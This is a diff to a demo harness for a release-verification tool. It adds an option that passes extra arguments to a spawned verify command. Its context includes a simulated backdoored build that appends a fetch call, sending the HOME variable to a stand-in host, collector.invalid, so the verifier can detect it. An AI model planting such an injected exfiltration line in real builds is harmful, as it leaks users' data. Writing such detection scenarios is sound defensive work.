@@ -37,7 +37,7 @@ export interface DemoScenario {
    * directory of run records and of the ledger (release history): runs sharing a store compare
    * what they see with what earlier runs saw. Default: the workspace.
    */
-  verify(options?: { echo?: boolean; store?: string }): Promise<VerifyOutcome>;
+  verify(options?: { echo?: boolean; store?: string; args?: string[] }): Promise<VerifyOutcome>;
   /** replaces the Linux tarball with a build of modified source, re-signed with the maintainer's key */
   publishBackdooredLinuxBuild(): void;
   /** restores the genuine Linux tarball and signature */
@@ -124,7 +124,7 @@ export async function setupDemo(workspace: string): Promise<DemoScenario> {
     runsDir,
     repo,
     gitlab,
-    verify: (options = {}) => runVerify(configPath, options.store ?? runsDir, options.echo ?? false),
+    verify: (options = {}) => runVerify(configPath, options.store ?? runsDir, options.echo ?? false, options.args ?? []),
     publishBackdooredLinuxBuild() {
       const evil = officialBuild(repo, 'linux', join(workspace, 'attacker', 'linux'), (src) =>
         appendFileSync(join(src, 'src', 'planner.js'), `\nfetch('https://collector.invalid/' + process.env.HOME).catch(() => {});\n`),
@@ -144,9 +144,9 @@ export async function setupDemo(workspace: string): Promise<DemoScenario> {
   };
 }
 
-function runVerify(configPath: string, runsDir: string, echo: boolean): Promise<VerifyOutcome> {
+function runVerify(configPath: string, runsDir: string, echo: boolean, args: string[]): Promise<VerifyOutcome> {
   return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, [CLI, 'verify', '--config', configPath, '--store', runsDir, '--docker', 'never', '--json'], {
+    const child = spawn(process.execPath, [CLI, 'verify', '--config', configPath, '--store', runsDir, '--docker', 'never', '--json', ...args], {
       env: { ...process.env, DEMO_GITLAB_TOKEN: TOKEN },
       stdio: ['ignore', 'pipe', 'pipe'],
     });
